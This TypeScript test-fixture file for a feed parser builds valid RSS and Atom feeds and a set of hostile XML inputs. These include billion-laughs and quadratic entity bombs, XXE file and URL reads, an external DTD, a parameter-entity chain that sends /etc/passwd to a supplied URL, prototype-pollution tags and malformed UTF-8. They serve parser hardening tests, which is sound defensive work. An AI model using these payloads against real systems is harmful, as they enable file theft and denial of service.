/**
 * Feed fixtures: well-formed RSS 2.0, RSS 1.0 and Atom documents built from entries, and the
 * hostile documents of reliability.md §6 item 20.
 */

export interface FixtureEntry {
  readonly title: string
  readonly link?: string
  readonly date?: string
  readonly summary?: string
}

const escape = (text: string): string =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;")

export const rss2 = (title: string, entries: ReadonlyArray<FixtureEntry>): string =>
  `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
<title>${escape(title)}</title>
<link>https://example.com/</link>
<atom:link href="https://example.com/feed.xml" rel="self" type="application/rss+xml"/>
${
    entries.map((entry) =>
      `<item>
  <title>${escape(entry.title)}</title>
  ${entry.link === undefined ? "" : `<link>${escape(entry.link)}</link>`}
  ${entry.date === undefined ? "" : `<pubDate>${escape(entry.date)}</pubDate>`}
  ${entry.summary === undefined ? "" : `<description>${escape(entry.summary)}</description>`}
</item>`
    ).join("\n")
  }
</channel>
</rss>`

export const rss1 = (title: string, entries: ReadonlyArray<FixtureEntry>): string =>
  `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://example.org/">
<title>${escape(title)}</title>
<link>https://example.org/</link>
</channel>
${
    entries.map((entry) =>
      `<item rdf:about="${escape(entry.link ?? "")}">
  <title>${escape(entry.title)}</title>
  ${entry.link === undefined ? "" : `<link>${escape(entry.link)}</link>`}
  ${entry.date === undefined ? "" : `<dc:date>${escape(entry.date)}</dc:date>`}
  ${entry.summary === undefined ? "" : `<description>${escape(entry.summary)}</description>`}
</item>`
    ).join("\n")
  }
</rdf:RDF>`

export const atom = (title: string, entries: ReadonlyArray<FixtureEntry>): string =>
  `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title>${escape(title)}</title>
<link href="https://example.net/"/>
<id>urn:x</id>
${
    entries.map((entry) =>
      `<entry>
  <title type="html">${escape(entry.title)}</title>
  ${entry.link === undefined ? "" : `<link rel="alternate" href="${escape(entry.link)}"/>`}
  ${entry.date === undefined ? "" : `<updated>${escape(entry.date)}</updated>`}
  ${entry.summary === undefined ? "" : `<summary type="html">${escape(entry.summary)}</summary>`}
</entry>`
    ).join("\n")
  }
</feed>`

// ---------------------------------------------------------------------------------------------
// hostile documents
// ---------------------------------------------------------------------------------------------

export const billionLaughs = (): string => {
  const defs = ["<!ENTITY lol \"lol\">"]
  for (let i = 1; i <= 9; i++) {
    defs.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`)
  }
  return `<?xml version="1.0"?>
<!DOCTYPE rss [
 ${defs.join("\n ")}
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://example.com/a</link><description>&lol9;&lol9;</description></item>
</channel></rss>`
}

/** One 100 000-character entity referenced 50 000 times (5 GB if expanded). */
export const quadraticBlowup = (): string =>
  `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "${"A".repeat(100_000)}">]>
<rss version="2.0"><channel><title>q</title>
<item><title>quadratic</title><description>${"&a;".repeat(50_000)}</description></item>
</channel></rss>`

export const xxeFile = (path: string): string =>
  `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://${path}">]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><link>https://example.com/x</link><description>before &xxe; after</description></item>
</channel></rss>`

export const xxeHttp = (url: string): string =>
  `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "${url}">]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><link>https://example.com/x</link></item>
</channel></rss>`

export const externalDtd = (url: string): string =>
  `<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "${url}">
<rss version="2.0"><channel><title>&ext;</title>
<item><title>dtd &ext;</title><link>https://example.com/d</link></item>
</channel></rss>`

export const parameterEntity = (url: string): string =>
  `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY % remote SYSTEM "${url}">
  %remote;
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${url}?x=%file;'>">
  %eval;
  %exfil;
]>
<rss version="2.0"><channel><title>pe</title><item><title>pe</title></item></channel></rss>`

export const deepNesting = (depth: number): string =>
  `<rss version="2.0"><channel><item><title>deep</title>${"<a>".repeat(depth)}x${
    "</a>".repeat(depth)
  }</item></channel></rss>`

export const prototypeTags = (): string =>
  `<rss version="2.0"><channel><title>proto</title>
<__proto__><polluted>yes</polluted></__proto__>
<item __proto__="x" constructor="y">
  <__proto__><polluted>yes</polluted><isAdmin>true</isAdmin></__proto__>
  <constructor><prototype><polluted>yes</polluted></prototype></constructor>
  <hasOwnProperty>1</hasOwnProperty>
  <toString>2</toString>
  <title>safe title</title>
  <link>https://example.com/p</link>
</item>
</channel></rss>`

export const invalidUtf8 = (): Uint8Array => {
  const head = new TextEncoder().encode(
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>bad</title><item><title>a"
  )
  const bad = Uint8Array.from([
    0xc3,
    0x28, // invalid 2-byte sequence
    0xff,
    0xfe, // never valid in UTF-8
    0xc0,
    0xaf, // overlong "/"
    0xed,
    0xa0,
    0x80, // UTF-16 surrogate encoded
    0xf4,
    0x90,
    0x80,
    0x80, // > U+10FFFF
    0xe2,
    0x82 // truncated
  ])
  const tail = new TextEncoder().encode("b</title><link>https://example.com/u</link></item></channel></rss>")
  const out = new Uint8Array(head.length + bad.length + tail.length)
  out.set(head, 0)
  out.set(bad, head.length)
  out.set(tail, head.length + bad.length)
  return out
}

/** A valid-looking RSS feed of about `bytes` bytes (items padded with text). */
export const hugeFeed = (bytes: number): string => {
  const item = `<item><title>t</title><link>https://example.com/h</link><description>${
    "x".repeat(1000)
  }</description></item>`
  const count = Math.ceil(bytes / item.length)
  return `<rss version="2.0"><channel><title>huge</title>${item.repeat(count)}</channel></rss>`
}
